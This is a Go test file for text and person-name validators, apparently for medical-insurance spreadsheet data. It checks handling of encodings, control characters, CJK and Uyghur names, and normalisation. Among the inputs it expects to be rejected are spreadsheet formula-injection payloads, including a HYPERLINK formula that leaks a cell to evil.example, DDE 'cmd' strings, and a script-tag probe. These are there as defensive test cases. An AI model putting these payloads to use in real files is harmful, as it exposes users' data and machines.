package model

import (
	"errors"
	"strings"
	"testing"
)

func TestCheckText(t *testing.T) {
	for _, tc := range []struct {
		in   string
		want error
	}{
		{"北京示例医院（西院）No.2 & Co.", nil},
		{"𠀀𪚥 emoji 🙂 also fine in free text", nil},
		{"bad \xff byte", ErrTextEncoding},
		{"GBK decoded \ufffd", ErrTextEncoding},
		{"NUL\x00", ErrTextControl},
		{"tab\there", ErrTextControl},
		{"line\nbreak", ErrTextControl},
		{"DEL\x7f", ErrTextControl},
		{"C1 \u0085", ErrTextControl},
		{"right-to-left override \u202e", ErrTextControl},
		{"Arabic letter mark \u061c", ErrTextControl},
		{"BOM \ufeff", ErrTextControl},
		{"noncharacter \uffff", ErrTextControl},
	} {
		if got := CheckText(tc.in); !errors.Is(got, tc.want) {
			t.Errorf("CheckText(%q) = %v, want %v", tc.in, got, tc.want)
		}
	}
}

func TestPersonName(t *testing.T) {
	for _, tc := range []struct {
		in, want string
		bad      string // in the error; "" when in is a name
	}{
		{"张三", "张三", ""},
		{"  欧阳娜娜 ", "欧阳娜娜", ""},
		{"𠀀𪚥", "𠀀𪚥", ""}, // CJK extension B
		{"阿依古丽·买买提", "阿依古丽·买买提", ""},
		{"阿依古丽・买买提", "阿依古丽·买买提", ""},   // katakana middle dot from an input method
		{"阿依古丽•买买提", "阿依古丽·买买提", ""},   // bullet
		{"阿依古丽 . 买买提", "阿依古丽·买买提", ""}, // full stop with spaces
		{"John  Smith", "John Smith", ""},
		{"José", "José", ""},
		{"Jose\u0301", "José", ""}, // NFC
		{"张\u3000三", "张 三", ""},
		{"ئەخمەت", "ئەخمەت", ""}, // Uyghur
		{`=HYPERLINK("http://evil.example/?leak="&E2,"点此核对")`, "", "“=”"},
		{"+cmd|' /C calc'!A0", "", "“+”"},
		{"@SUM(1+1)", "", "“@”"},
		{"-2+3+cmd|' /C calc'!A0", "", "“-”"},
		{"<script>alert(1)</script>", "", "“<”"},
		{"张\x00三", "", "控制字符"},
		{"\x81 \ufffd\ufffd", "", "无法识别"},
		{"张三2", "", "“2”"},
		{"·张三", "", "间隔号"},
		{"张三·", "", "间隔号"},
		{"张··三", "", "间隔号"},
		{"   ", "", "空"},
	} {
		got, err := PersonName(tc.in)
		switch {
		case tc.bad == "" && (err != nil || got != tc.want):
			t.Errorf("PersonName(%q) = %q, %v; want %q", tc.in, got, err, tc.want)
		case tc.bad != "" && (err == nil || !strings.Contains(err.Error(), tc.bad)):
			t.Errorf("PersonName(%q) = %q, %v; want an error saying %q", tc.in, got, err, tc.bad)
		}
	}
}

// BenchmarkCheckText measures the check on the cells of one typical 医保 row (14 cells).
func BenchmarkCheckText(b *testing.B) {
	row := []string{"S000000001", "800000000001", "110199199001010010", "门诊", "2026-04-01", "", "北京示例第一医院", "1234.56", "100.00", "300.00", "0", "0", "0", "否"}
	for b.Loop() {
		for _, c := range row {
			if CheckText(c) != nil {
				b.Fatal(c)
			}
		}
	}
}
